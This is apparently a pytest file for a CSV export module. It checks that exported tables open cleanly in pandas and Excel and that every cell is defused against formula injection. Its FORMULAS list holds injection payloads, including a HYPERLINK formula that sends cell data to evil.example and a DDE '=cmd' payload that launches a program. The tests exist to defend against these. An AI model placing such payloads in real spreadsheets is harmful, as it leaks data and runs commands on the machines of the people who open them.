"""The table, as people and programs open it; and nothing in it that a spreadsheet computes."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from render.stories import Story

from compare.comparison import Comparison
from compare.render import Format, View, render, render_bytes
from compare.render.table import COLUMNS, harmless
from compare.verdicts.judgement import Verdict

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    '"=1+1"',
    "'=1+1",
    "“=1+1”",
    "\" '=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "\u200b=1+1",
    '=HYPERLINK("http://evil.example?x="&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "biasa; =1+1",
    'biasa";=1+1',
    'biasa"";"=1+1',
    "biasa\n=1+1",
    "biasa\r\n=1+1",
    "biasa\t=1+1",
    "=1+1;=2+2;-3",
]


def rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def acts(cell: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula, however it strips what stands before."""
    bare = unicodedata.normalize("NFKC", cell).lstrip(' \t\r\n\u00a0"“”')
    return bare[:1] in {"=", "+", "-", "@"}


def story(words: str) -> Comparison:
    """The words wherever an article reaches into the table."""
    made = Story()
    for name in ("satu", "dua"):
        made.article(
            name, f"{words} {name}", "id", words, f"{words} isi", path=words, published=words, url=words
        )
    ids = [made.claim(name, f"{words} isi", speaker=words, via=(words,)) for name in ("satu", "dua")]
    made.link(ids[1], ids[0], Verdict.AGREE, explanation=words)
    return made.comparison()


def test_the_form_that_spreadsheets_know(two: Comparison) -> None:
    text = render(two, Format.CSV)
    assert text.startswith("\ufeff")
    assert text.count("\r\n") == text.count("\n")


def test_pandas_reads_it(four: Comparison) -> None:
    frame = pd.read_csv(io.BytesIO(render_bytes(four, Format.CSV)))
    assert tuple(frame.columns) == COLUMNS
    findings = frame[frame["row"] == "finding"]
    assert list(findings["finding"]) == [finding.id for finding in four.findings]
    links = frame[frame["row"] == "link"]
    assert sorted(zip(links["a_claim"], links["b_claim"], strict=True)) == sorted(
        (link.a, link.b) for link in four.links
    )
    (conflict,) = findings[findings["verdict"] == "conflict"].to_dict("records")
    assert (conflict["confidence"], conflict["a_quote"]) == (0.93, "The blaze burned for nine hours")


def test_a_link_between_two_findings_is_there_without_a_finding() -> None:
    made = Story()
    for name in ("satu", "dua"):
        made.article(name, name, "id", "Judul", "Isi pertama. Isi kedua.")
    ids = [made.claim(name, words) for name in ("satu", "dua") for words in ("Isi pertama", "Isi kedua")]
    for a, b, confidence in ((0, 2, 0.9), (1, 3, 0.8), (1, 2, 0.3)):
        made.link(ids[a], ids[b], Verdict.AGREE, confidence=confidence)
    found = [row for row in rows(render(made.comparison(), Format.CSV)) if row[0] == "link"]
    assert len(found) == 3
    (loose,) = (row for row in found if not row[1])
    assert loose[COLUMNS.index("claims")] == "satu:2 | dua:1"


def test_only_some_verdicts(two: Comparison) -> None:
    _, *shown = rows(render(two, Format.CSV, View(only=frozenset({Verdict.CONFLICT}))))
    assert [(row[0], row[2]) for row in shown] == [("finding", "conflict"), ("link", "conflict")]


@pytest.mark.parametrize("words", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_acts_whatever_parts_them(words: str, delimiter: str) -> None:
    table = rows(render(story(words), Format.CSV), delimiter)
    assert not [cell for row in table for cell in row if acts(cell)]


@pytest.mark.parametrize("words", FORMULAS)
def test_a_workbook_made_of_it_has_no_formula(words: str, tmp_path: Path) -> None:
    frame = pd.read_csv(io.BytesIO(render_bytes(story(words), Format.CSV)))
    frame.to_excel(tmp_path / "table.xlsx", index=False, engine="openpyxl")
    sheet = openpyxl.load_workbook(tmp_path / "table.xlsx").active
    assert sheet is not None
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert sheet.max_row == 3  # the heads, the finding, its link


@given(st.text(alphabet=st.sampled_from("=+-@＝；;,\"' \t\r\n|ab1'“”\u00a0﹣")))
@example('"\n=')
def test_no_mixture_acts(words: str) -> None:
    sheet = io.StringIO(newline="")
    csv.writer(sheet, quoting=csv.QUOTE_NONNUMERIC).writerow(["x", harmless(words), harmless(words), "y"])
    for delimiter in (",", ";", "\t"):
        assert not any(acts(cell) for row in rows(sheet.getvalue(), delimiter) for cell in row)
    assert len(rows(sheet.getvalue())) == 1


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("Suhu -5 derajat; naik", "Suhu -5 derajat; naik"),
        ("-5 derajat", "'-5 derajat"),
        ("naik; -5 derajat", "naik;' -5 derajat"),
        ("satu\ndua", "satu dua"),
        ("\x1b[31mmerah", "␛[31mmerah"),
        ("“kata” – “kata”", "“kata” – “kata”"),
    ],
)
def test_what_is_changed_and_what_is_not(words: str, shown: str) -> None:
    assert harmless(words) == shown
